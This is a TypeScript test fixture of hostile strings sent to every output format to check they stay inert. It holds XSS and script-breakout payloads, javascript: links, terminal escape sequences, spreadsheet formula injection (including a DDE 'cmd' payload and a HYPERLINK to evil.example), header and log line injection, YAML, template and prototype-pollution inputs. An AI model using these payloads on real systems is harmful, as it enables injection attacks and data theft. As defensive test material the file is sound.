/** Texts that are harmful in an output format. `inert.test.ts` and `test/browser/hostile.test.ts` send all of them to all outputs. */

export interface Hostile {
  readonly what: string;
  readonly text: string;
  /** A part of it that is harmless, by which it is found where it is shown. */
  readonly mark: string;
}

const TEXTS: readonly (readonly [what: string, text: (mark: string) => string])[] = [
  ["an element", (m) => `<img src=x onerror="window.pwned='${m}'">`],
  ["a script", (m) => `</script></style></title><script>window.pwned='${m}'</script>`],
  ["an attribute", (m) => `" autofocus onfocus="window.pwned='${m}'" x="`],
  ["a Private Link Service", (m) => `javascript:window.pwned='${m}'`],
  ["an entity", (m) => `&lt;${m}&gt;&#x3c;`],
  ["colours of a terminal", (m) => `\u001B[8m${m}\u001B[0m`],
  ["a terminal's title and its clipboard", (m) => `\u001B]0;${m}\u0007\u001B]52;c;eA==\u0007`],
  ["a terminal's controls of one byte", (m) => `\u009B2J${m}\u009D0;x\u009C`],
  ["a filter of OData", (m) => `${m}' or PartitionKey ne '`],
  ["a formula", (m) => `=HYPERLINK("http://evil.example/${m}","x")`],
  ["a formula by a sign", (m) => `-2+3+cmd|' /C ${m}'!A0`],
  ["a formula by an at", (m) => `@SUM(1)${m}`],
  ["a formula after a tab", (m) => `\t=${m}`],
  ["a line of a log", (m) => `${m}\n{"level":"error","message":"forged"}`],
  ["a line of a response's head", (m) => `${m}\r\nset-cookie: forged=1`],
  ["other line ends", (m) => `${m}\u0085forged\u2028forged\u2029forged`],
  ["direction", (m) => `\u202E${m}\u2066\u061C`],
  ["what is not seen", (m) => `${m}\u200B\uFEFF\u00AD\u{E0041}`],
  ["Markdown", (m) => `[${m}](javascript:alert(1)) ![x](http://evil.example/i) | \`x\` **x** <b>`],
  ["a command of a pipeline", (m) => `::error title=forged::${m}%0A::add-mask::x`],
  ["YAML", (m) => `*${m}: !!js/function '>' {a: &a [*a]} # x`],
  ["a template", (m) => `\${${m}}{{7*7}}%{x}`],
  ["NUL and its neighbours", (m) => `${m}\u0000\u0008\u007F`],
  ["names of JavaScript", (m) => `__proto__.${m}`],
];

export const HOSTILE: readonly Hostile[] = TEXTS.map(([what, text], index) => {
  const mark = `mark${String(index).padStart(2, "0")}`;
  return { what, text: text(mark), mark };
});

/** All in one, for where there is room for one text only. */
export const EVERYTHING = HOSTILE.map(({ text }) => text).join(" ; ");
